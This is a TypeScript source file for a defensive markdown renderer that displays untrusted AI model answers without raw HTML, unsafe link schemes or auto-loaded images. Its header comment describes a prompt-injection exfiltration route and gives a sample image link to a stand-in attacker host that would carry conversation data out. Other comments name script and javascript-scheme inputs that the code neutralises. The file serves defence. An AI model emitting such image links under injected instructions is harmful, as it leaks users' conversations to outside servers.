// Markdown for model answers, which are untrusted: a prompt injection can make a model write anything.
// The renderer builds elements and text nodes only (never HTML), so `<script>` or `<img onerror>` in
// an answer is shown as the characters it is. Links keep only http:, https: and mailto: targets, and
// images are never loaded: an image URL is fetched without a click, so a model steered by injected
// text could send the conversation to any server in one (`![](https://evil.example/?q=…)`). An image
// is shown as a link named by its alt text instead (docs/apps.md, "Security of rendered answers").
import { append, h } from "./dom.ts";

const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);

/**
 * The link target to use for `raw`, or null when it is not an absolute http(s)/mailto URL. Parsing
 * with URL normalises what browsers normalise (case, tabs and newlines inside the scheme), so
 * `JaVa\tScript:` is caught as `javascript:`.
 *
 * @example safeHref("https://example.com/a b") // "https://example.com/a%20b"
 */
export function safeHref(raw: string): string | null {
  let url: URL;
  try {
    url = new URL(raw.trim());
  } catch {
    return null;
  }
  return SAFE_PROTOCOLS.has(url.protocol) ? url.href : null;
}

/**
 * An anchor to a safe target, opening in a new tab without handing the page to it.
 *
 * @example safeLink("https://example.com", "docs")
 */
export function safeLink(href: string, ...children: (Node | string)[]): HTMLAnchorElement {
  return h("a", { href, target: "_blank", rel: "noopener noreferrer nofollow" }, ...children);
}

/**
 * Renders markdown into a fragment: paragraphs (single newlines kept as line breaks), headings,
 * bullet and numbered lists (nested by indentation), block quotes, fenced code, rules, and inline
 * bold, italic, strikethrough, code, links and bare URLs.
 *
 * @example container.replaceChildren(renderMarkdown("**Hi** <b>there</b>"))
 */
export function renderMarkdown(text: string): DocumentFragment {
  const fragment = document.createDocumentFragment();
  renderBlocks(text.replace(/\r\n?/g, "\n").split("\n"), fragment);
  return fragment;
}

const FENCE = /^\s{0,3}(`{3,}|~{3,})/;
const HEADING = /^\s{0,3}(#{1,6})\s+(.*?)\s*#*\s*$/;
const LIST_ITEM = /^(\s*)([-*+]|\d{1,9}[.)])\s+(.*)$/;
const QUOTE = /^\s{0,3}>\s?(.*)$/;
const RULE = /^\s{0,3}([-*_])(\s*\1){2,}\s*$/;

function renderBlocks(lines: string[], into: Node): void {
  let paragraph: string[] = [];
  const flush = () => {
    if (paragraph.length > 0) into.appendChild(inlineBlock("p", paragraph.join("\n")));
    paragraph = [];
  };
  let i = 0;
  while (i < lines.length) {
    const line = lines[i] ?? "";
    const fence = FENCE.exec(line);
    if (fence) {
      flush();
      const marker = fence[1] ?? "```";
      const body: string[] = [];
      i += 1;
      // An answer still streaming may not have closed its fence yet: the rest is code until it does.
      while (i < lines.length && !(lines[i] ?? "").trim().startsWith(marker)) body.push(lines[i++] ?? "");
      i += 1;
      into.appendChild(h("pre", {}, h("code", {}, body.join("\n"))));
      continue;
    }
    if (!line.trim()) {
      flush();
      i += 1;
      continue;
    }
    const heading = HEADING.exec(line);
    if (heading) {
      flush();
      // Level 1 in an answer sits under the page's and the panel's own headings.
      const level = Math.min((heading[1] ?? "#").length + 2, 6);
      into.appendChild(inlineBlock(`h${level}` as "h3", heading[2] ?? ""));
      i += 1;
      continue;
    }
    if (RULE.test(line)) {
      flush();
      into.appendChild(h("hr"));
      i += 1;
      continue;
    }
    if (QUOTE.test(line)) {
      flush();
      const quoted: string[] = [];
      while (i < lines.length && QUOTE.test(lines[i] ?? ""))
        quoted.push(QUOTE.exec(lines[i++] ?? "")?.[1] ?? "");
      const quote = h("blockquote");
      renderBlocks(quoted, quote);
      into.appendChild(quote);
      continue;
    }
    if (LIST_ITEM.test(line)) {
      flush();
      i = renderList(lines, i, into);
      continue;
    }
    paragraph.push(line);
    i += 1;
  }
  flush();
}

/** Renders the list starting at `start` (and the lists nested in it); answers the next line to read. */
function renderList(lines: string[], start: number, into: Node): number {
  const first = LIST_ITEM.exec(lines[start] ?? "");
  const indent = first?.[1]?.length ?? 0;
  const isOrdered = /\d/.test(first?.[2] ?? "");
  const list = h(isOrdered ? "ol" : "ul");
  const startNumber = Number.parseInt(first?.[2] ?? "", 10);
  if (isOrdered && startNumber !== 1 && Number.isFinite(startNumber))
    list.setAttribute("start", String(startNumber));
  let item: HTMLLIElement | null = null;
  let i = start;
  while (i < lines.length) {
    const line = lines[i] ?? "";
    const match = LIST_ITEM.exec(line);
    const lineIndent = /^\s*/.exec(line)?.[0].length ?? 0;
    if (match && lineIndent < indent) break;
    if (match && lineIndent > indent + 1 && item) {
      i = renderList(lines, i, item);
      continue;
    }
    if (match && lineIndent <= indent + 1) {
      if (/\d/.test(match[2] ?? "") !== isOrdered) break;
      item = inlineBlock("li", match[3] ?? "");
      list.appendChild(item);
      i += 1;
      continue;
    }
    // A line indented under an item continues its text; anything else ends the list.
    if (item && line.trim() && lineIndent > indent) {
      append(item, h("br"));
      renderInline(line.trim(), item);
      i += 1;
      continue;
    }
    break;
  }
  into.appendChild(list);
  return i;
}

function inlineBlock<K extends "p" | "li" | "h3">(tag: K, text: string): HTMLElementTagNameMap[K] {
  const element = h(tag);
  renderInline(text, element);
  return element;
}

const ESCAPABLE = /[\\`*_{}[\]()#+\-.!~<>|"']/;
const BARE_URL = /^(https?:\/\/|mailto:)[^\s<>"]+/i;
const ANGLE_URL = /^<((?:https?:\/\/|mailto:)[^\s<>]+)>/i;

/**
 * Inline markdown into `into`. `isInLink` stops links nesting inside link text (a browser would
 * split them anyway, and a nested bare URL would be a second target under one label).
 */
function renderInline(text: string, into: Node, isInLink = false): void {
  let plain = "";
  const flush = () => {
    if (plain) into.appendChild(document.createTextNode(plain));
    plain = "";
  };
  let i = 0;
  while (i < text.length) {
    const char = text[i] ?? "";
    const rest = text.slice(i);
    if (char === "\\" && ESCAPABLE.test(text[i + 1] ?? "")) {
      plain += text[i + 1];
      i += 2;
      continue;
    }
    if (char === "\n") {
      flush();
      into.appendChild(h("br"));
      i += 1;
      continue;
    }
    if (char === "`") {
      const run = /^`+/.exec(rest)?.[0] ?? "`";
      const end = text.indexOf(run, i + run.length);
      if (end > i) {
        flush();
        into.appendChild(h("code", {}, text.slice(i + run.length, end).replace(/^ (.+) $/, "$1")));
        i = end + run.length;
        continue;
      }
      plain += run;
      i += run.length;
      continue;
    }
    if ((char === "[" || (char === "!" && text[i + 1] === "[")) && !isInLink) {
      const isImage = char === "!";
      const link = parseLink(text, isImage ? i + 1 : i);
      if (link) {
        flush();
        const href = safeHref(link.target);
        if (isImage) {
          // Never loaded: a link the reader may choose to open, named by the alt text.
          const label = link.label || link.target;
          into.appendChild(href ? safeLink(href, `Image: ${label}`) : document.createTextNode(label));
        } else if (href) {
          const anchor = safeLink(href);
          renderInline(link.label, anchor, true);
          into.appendChild(anchor);
        } else {
          // An unsafe target (javascript:, data:, relative): only the words remain, not a link; the
          // tooltip says why a reader finds no link there.
          const words = h("span", {
            className: "inert",
            title: "Link removed: it did not lead to a web page",
          });
          renderInline(link.label, words, true);
          into.appendChild(words);
        }
        i = link.end;
        continue;
      }
    }
    if (!isInLink && (char === "<" || /[hm]/i.test(char)) && (i === 0 || !/[\w/]/.test(text[i - 1] ?? ""))) {
      const angle = char === "<" ? ANGLE_URL.exec(rest) : null;
      const bare = angle ? null : BARE_URL.exec(rest);
      const raw = angle?.[1] ?? (bare ? trimUrlEnd(bare[0]) : null);
      const href = raw ? safeHref(raw) : null;
      if (raw && href) {
        flush();
        into.appendChild(safeLink(href, raw));
        i += angle ? (angle[0]?.length ?? 0) : raw.length;
        continue;
      }
    }
    if (char === "*" || char === "_" || char === "~") {
      const span = parseEmphasis(text, i, isInLink);
      if (span) {
        flush();
        into.appendChild(span.element);
        i = span.end;
        continue;
      }
      const run = new RegExp(`^\\${char}+`).exec(rest)?.[0] ?? char;
      plain += run;
      i += run.length;
      continue;
    }
    plain += char;
    i += 1;
  }
  flush();
}

/** Trailing punctuation ends a sentence rather than the URL; a `)` stays when it closes one in it. */
function trimUrlEnd(url: string): string {
  let end = url.length;
  while (end > 0) {
    const last = url[end - 1] ?? "";
    if (/[.,;:!?'"*_~]/.test(last)) end -= 1;
    else if (
      last === ")" &&
      (url.slice(0, end).match(/\(/g)?.length ?? 0) < (url.slice(0, end).match(/\)/g)?.length ?? 0)
    )
      end -= 1;
    else break;
  }
  return url.slice(0, end);
}

/** `[label](target "title")` starting at `start` (the `[`): the parts and where it ends, or null. */
function parseLink(text: string, start: number): { label: string; target: string; end: number } | null {
  let depth = 0;
  let close = -1;
  for (let i = start; i < text.length; i++) {
    const char = text[i];
    if (char === "\\") i += 1;
    else if (char === "[") depth += 1;
    else if (char === "]" && --depth === 0) {
      close = i;
      break;
    }
  }
  if (close < 0 || text[close + 1] !== "(") return null;
  depth = 0;
  for (let i = close + 1; i < text.length; i++) {
    const char = text[i];
    if (char === "(") depth += 1;
    else if (char === ")" && --depth === 0) {
      const inside = text.slice(close + 2, i).trim();
      // An optional title after the target is dropped; `<…>` may wrap a target with spaces.
      const target = /^<([^>]*)>/.exec(inside)?.[1] ?? inside.split(/\s+/)[0] ?? "";
      return { label: text.slice(start + 1, close), target, end: i + 1 };
    }
  }
  return null;
}

/**
 * `*em*`, `**strong**`, `***both***`, `_em_`, `__strong__`, `~~del~~` starting at `start`: the element
 * (its content rendered recursively, so emphasis nests) and where it ends, or null when the run is not
 * closed. An underscore inside a word (snake_case) is not emphasis.
 */
function parseEmphasis(
  text: string,
  start: number,
  isInLink: boolean,
): { element: HTMLElement; end: number } | null {
  const char = text[start] ?? "";
  const run = /^(\*+|_+|~+)/.exec(text.slice(start))?.[0] ?? "";
  const size = run.length;
  if (char === "~" ? size !== 2 : size > 3) return null;
  if (char === "_" && /\w/.test(text[start - 1] ?? "")) return null;
  const open = start + size;
  if (!text[open] || /\s/.test(text[open] ?? "")) return null;
  for (let i = open + 1; i <= text.length - size; i++) {
    if (text[i] === "\\") {
      i += 1;
      continue;
    }
    if (text[i] === "`") {
      // Code spans are opaque: a star inside one is not a closing delimiter.
      const tick = /^`+/.exec(text.slice(i))?.[0] ?? "`";
      const codeEnd = text.indexOf(tick, i + tick.length);
      if (codeEnd > 0) i = codeEnd + tick.length - 1;
      continue;
    }
    if (text[i] !== char) continue;
    const closing = new RegExp(`^\\${char}+`).exec(text.slice(i))?.[0] ?? "";
    // A run of another size is nested emphasis, skipped here and parsed with the content.
    if (closing.length !== size || /\s/.test(text[i - 1] ?? "")) {
      i += closing.length - 1;
      continue;
    }
    if (char === "_" && /\w/.test(text[i + size] ?? "")) continue;
    const inner = text.slice(open, i);
    let element: HTMLElement;
    if (char === "~") element = h("del");
    else if (size === 3) {
      const em = h("em");
      element = h("strong", {}, em);
      renderInline(inner, em, isInLink);
      return { element, end: i + size };
    } else element = h(size === 2 ? "strong" : "em");
    renderInline(inner, element, isInLink);
    return { element, end: i + size };
  }
  return null;
}
